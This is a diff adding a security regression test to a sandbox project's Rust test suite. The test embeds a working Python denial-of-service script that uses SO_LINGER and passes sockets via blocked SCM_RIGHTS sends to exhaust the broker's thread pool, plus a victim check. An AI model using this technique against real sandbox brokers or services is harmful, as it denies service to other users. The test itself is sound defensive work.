@@ -6,7 +6,7 @@
 
 use std::time::Duration;
 
-use netjail_integration_tests::{netjail_bin, run, Canary, Outcome};
+use netjail_integration_tests::{confined_with_broker, netjail_bin, run, Broker, Canary, Outcome};
 
 use crate::{have_setpriv, need_python, need_root, NOBODY};
 
@@ -270,5 +270,159 @@ fn rt2_multicast_join_reports_leave_under_deny_all() {
     assert!(
         confined["igmp"] == false && confined["mld"] == false,
         "a deny-all sandbox put group reports of its choosing on the wire: {confined}"
+    );
+}
+
+// ---- rt2_linger: a passed socket's last close holds the broker's pool for ever ------------------
+
+/// The attacker (under `loopback-only`): N pairs of connected loopback TCP sockets `c`/`s`,
+/// `c` with `SO_LINGER` {on, 2^31-1 s} and data queued that `s` never reads; for each, a
+/// `sendmsg` on a unix socket pair whose peer is full, passing `c` and `s` in one
+/// `SCM_RIGHTS` message, so that it blocks in the broker, which holds its copies of both.
+/// Then the program closes its own `c` and `s` and exits: the broker's blocked sends are
+/// interrupted, and its copies, now the last references, are closed on the pool thread. The
+/// close of `c` lingers until its FIN is acknowledged, which needs `s` to read; `s` is the
+/// next copy in the same list, never closed. Prints how many sends were blocked.
+const PY_LINGER: &str = r#"
+import array, json, os, socket, struct, sys, threading, time
+N = int(sys.argv[1])
+srv = socket.socket()
+srv.bind(("127.0.0.1", 0))
+srv.listen(128)
+port = srv.getsockname()[1]
+units, pending = [], []
+for i in range(N):
+    c = socket.socket()
+    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
+    c.connect(("127.0.0.1", port))
+    s, _ = srv.accept()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 2**31 - 1))
+    c.setblocking(False)
+    try:
+        while True:
+            c.send(b"L" * 4096)
+    except BlockingIOError:
+        pass
+    a, b = socket.socketpair()
+    a.setblocking(False)
+    try:
+        while True:
+            a.send(b"F" * 65536)
+    except BlockingIOError:
+        pass
+    a.setblocking(True)
+    units.append((c, s, a, b))
+def blocked(a, fds):
+    try:
+        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
+    except OSError:
+        pass
+    pending.remove(a)
+for c, s, a, b in units:
+    pending.append(a)
+    fds = array.array("i", [c.fileno(), s.fileno()]).tobytes()
+    threading.Thread(target=blocked, args=(a, fds), daemon=True).start()
+time.sleep(3)
+for c, s, a, b in units:
+    if a not in pending:
+        # Refused (the pool is full): our own copy is the last, close it at once.
+        c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    c.close()
+    s.close()
+print(json.dumps({"blocked": len(pending)}), flush=True)
+os._exit(0)
+"#;
+
+/// The victim (another sandbox, under `loopback-only`): one unix connect to the canary.
+const PY_UNIX_CONNECT: &str = r#"
+import errno, json, socket, sys
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect(sys.argv[1])
+    print(json.dumps({"ok": True}))
+except OSError as e:
+    print(json.dumps({"ok": False, "err": errno.errorcode.get(e.errno, str(e.errno))}))
+"#;
+
+/// Escape (denial of service of every other sandbox): a `loopback-only` sandbox passes a
+/// lingering TCP socket and its never-reading peer in one `SCM_RIGHTS` message of a send
+/// that blocks, closes its own copies, and exits. The broker's copies are then the last ones;
+/// it closes them on the pool thread after the send ends (`drop(held)` in `deliver_here`,
+/// outside the reaper's reach), and the close of the first waits, with no bound, for the
+/// second to read. Each such call keeps its place on the blocking pool after its sandbox is
+/// gone; a few dozen short runs fill all 448 places, and from then on every other sandbox's
+/// unix connects and sends get `EAGAIN` after 2 s, until netjaild restarts.
+#[test]
+fn rt2_linger_close_of_passed_sockets_holds_the_pool_for_ever() {
+    let test = "rt2_linger_close_of_passed_sockets_holds_the_pool_for_ever";
+    if !need_root(test) {
+        return;
+    }
+    let Some(py) = need_python(test) else {
+        return;
+    };
+    let broker = Broker::start();
+    let canary = Canary::unix_path("victim.sock");
+    let path = canary.path().to_str().expect("utf-8 path").to_owned();
+    let victim = || {
+        confined_with_broker(
+            &broker,
+            "loopback-only",
+            &[&py, "-c", PY_UNIX_CONNECT, &path],
+        )
+    };
+    let before = victim();
+    assert_eq!(
+        before.json()["ok"],
+        true,
+        "before the attack the victim is served: {}",
+        before.describe()
+    );
+    assert!(canary.wait_count(1, WAIT) >= 1);
+
+    // One short run first: once its sandbox has ended, nothing of it should stay on the pool.
+    let first = confined_with_broker(&broker, "loopback-only", &[&py, "-c", PY_LINGER, "4"]);
+    let in_flight = || {
+        broker
+            .metrics()
+            .get("netjail_calls_in_flight")
+            .copied()
+            .unwrap_or(0.0)
+    };
+    std::thread::sleep(WAIT);
+    let left_after_one = in_flight();
+
+    // Then as many runs as it takes to fill the pool: 64 places per sandbox while the shared
+    // part lasts, 8 per sandbox from the reserve.
+    let mut runs = vec![first.json()["blocked"].clone()];
+    for n in [64, 64, 64, 64, 64]
+        .into_iter()
+        .chain(std::iter::repeat(8).take(24))
+    {
+        let out = confined_with_broker(
+            &broker,
+            "loopback-only",
+            &[&py, "-c", PY_LINGER, &n.to_string()],
+        );
+        let blocked = out.json()["blocked"].clone();
+        runs.push(blocked.clone());
+        if blocked == 0 {
+            break;
+        }
+    }
+    let served = canary.count();
+    let after = victim();
+    let left = in_flight();
+    assert!(
+        after.json()["ok"] == true && canary.wait_count(served + 1, WAIT) > served,
+        "another sandbox is no longer served: its unix connect got {} after attacker runs \
+         blocking {runs:?} ended; calls still on the pool: {left} (after the first run alone: \
+         {left_after_one})",
+        after.describe()
+    );
+    assert_eq!(
+        left_after_one, 0.0,
+        "calls of a sandbox that ended stay on the broker's pool"
     );
 }
